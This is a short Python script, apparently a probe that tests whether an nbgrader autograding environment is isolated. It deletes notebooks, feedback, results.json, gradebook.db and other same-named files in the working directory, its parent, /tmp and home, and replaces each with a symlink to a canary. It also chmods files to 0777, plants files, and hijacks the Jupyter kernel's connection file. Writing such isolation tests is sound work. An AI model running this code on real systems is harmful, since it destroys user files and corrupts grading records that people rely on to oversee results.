# Tries to write where the grader writes: replaces its notebook and feedback with links to a host file (which
# nbgrader would then write through and chmod), plants results in the usual places, changes a host file's mode,
# and swaps the kernel's connection file for a link.
import glob, os, stat
CANARY = "CANARY"
here = os.getcwd()
names = [os.path.basename(p) for p in glob.glob(os.path.join(here, "**", "*"), recursive=True)]
for name in names + ["01_conv_layer.ipynb", "01_conv_layer.html", "results.json", "gradebook.db"]:
    for base in (here, os.path.dirname(here), "/tmp", os.path.expanduser("~")):
        path = os.path.join(base, name)
        try:
            if os.path.lexists(path):
                os.remove(path)
            os.symlink(CANARY, path)
        except OSError:
            pass
for action in (lambda: open(CANARY, "w").write("changed"), lambda: os.chmod(CANARY, 0o777),
               lambda: open(CANARY + ".new", "w").write("planted")):
    try:
        action()
    except OSError:
        pass
try:
    from ipykernel.connect import get_connection_file
    connection = get_connection_file()
    os.remove(connection)
    os.symlink(CANARY, connection)
    open(os.path.join(os.path.dirname(connection), "planted.txt"), "w").write("x" * 1000)
except Exception:
    pass
print("escape attempted")
